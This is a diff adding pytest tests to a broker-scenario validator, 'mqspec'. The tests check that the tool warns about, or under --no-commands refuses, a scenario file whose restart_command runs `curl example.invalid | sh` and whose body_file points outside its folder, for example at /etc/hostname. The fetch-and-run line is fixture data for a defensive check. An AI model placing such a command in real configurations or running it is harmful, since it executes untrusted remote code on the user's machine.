@@ -90,3 +90,71 @@ def test_a_percent_encoded_password_is_valid(tmp_path: Path) -> None:
     path.write_text(URL_FROM_ENV)
     result = mqspec("validate", str(path), env={"APP_PASSWORD": "ab%2Fcd%2Fef:Zq9X"})
     assert (result.exit_code, result.output) == (0, f"{path}: valid\n")
+
+
+CODE = """\
+version: 1
+name: code
+broker:
+  url: amqp://guest:guest@127.0.0.1:1/%2F
+  restart_command: [[sh, -c, "curl example.invalid | sh"]]
+topology:
+  queues: [{name: q, max_length: 10}]
+workload:
+  producers:
+    - {name: p, queue: q, messages: 1, body_file: BODY}
+  consumers: [{name: c, queue: q}]
+"""
+RESTART = ("$.broker.restart_command[0]: runs the command `sh -c 'curl example.invalid | sh'` on this machine when a "
+           "restart_broker fault fires")
+RESTART_HINT = "(hint: read the commands of a file you did not write before running it; --no-commands refuses such files)"
+BODY_HINT = "(hint: keep message bodies next to the scenario, and read a file you did not write before running it)"
+
+
+def _code_file(tmp_path: Path, body: str) -> Path:
+    (tmp_path / "inside.json").write_text("{}")
+    path = tmp_path / "scenarios" / "code.yaml"
+    path.parent.mkdir(exist_ok=True)
+    path.write_text(CODE.replace("BODY", body))
+    return path
+
+
+@pytest.mark.parametrize("body", ["/etc/hostname", "../inside.json"])
+def test_commands_and_files_outside_the_folder_are_warned_about(tmp_path: Path, body: str) -> None:
+    path = _code_file(tmp_path, body)
+    result = mqspec("validate", str(path))
+    assert (result.exit_code, result.output) == (0, (
+        f"{path}:5:21: warning: {RESTART} {RESTART_HINT}\n"
+        f"{path}:10:40: warning: $.workload.producers[0].body_file: body_file '{body}' is outside the scenario's folder: "
+        f"apply publishes that file's bytes to the broker {BODY_HINT}\n"
+        f"{path}: valid (2 warnings)\n"))
+
+
+@pytest.mark.parametrize("command", [["validate"], ["export"], ["plan"], ["apply", "--topology-only"], ["route", "-e", ""]])
+def test_no_commands_makes_every_command_refuse_a_file_that_runs_commands(tmp_path: Path, command: list[str]) -> None:
+    path = _code_file(tmp_path, "/etc/hostname")
+    result = mqspec("--no-commands", *command, str(path))
+    assert result.exit_code == 2
+    assert f"{path}:5:21: {RESTART}: refused by --no-commands {RESTART_HINT}\n" in result.stderr
+    assert (f"{path}:10:40: $.workload.producers[0].body_file: body_file '/etc/hostname' is outside the scenario's folder: "
+            f"apply publishes that file's bytes to the broker: refused by --no-commands {BODY_HINT}\n") in result.stderr
+
+
+def test_no_commands_refuses_a_restart_fault_running_the_default_command(tmp_path: Path) -> None:
+    path = tmp_path / "s.yaml"
+    path.write_text("version: 1\nname: t\ntopology:\n  queues: [{name: q, max_length: 1}]\nworkload:\n  consumers: [{name: c, queue: q}]\n"
+                    "  faults: [{action: restart_broker, at: 1s}]\n")
+    assert mqspec("validate", str(path)).exit_code == 0
+    result = mqspec("--no-commands", "validate", str(path))
+    assert (result.exit_code, result.output) == (2, (
+        f"{path}:7:13: $.workload.faults[0].action: restart_broker runs broker.restart_command (by default `rabbitmqctl stop_app` "
+        "and `rabbitmqctl start_app`) on this machine: refused by --no-commands (hint: run the file without --no-commands "
+        "once you have read it)\n"))
+
+
+def test_no_commands_accepts_a_file_that_only_talks_to_the_broker(tmp_path: Path) -> None:
+    path = _code_file(tmp_path, "body.json")
+    path.write_text(path.read_text().replace('  restart_command: [[sh, -c, "curl example.invalid | sh"]]\n', ""))
+    (path.parent / "body.json").write_text("{}")
+    result = mqspec("--no-commands", "validate", str(path))
+    assert (result.exit_code, result.output) == (0, f"{path}: valid\n")
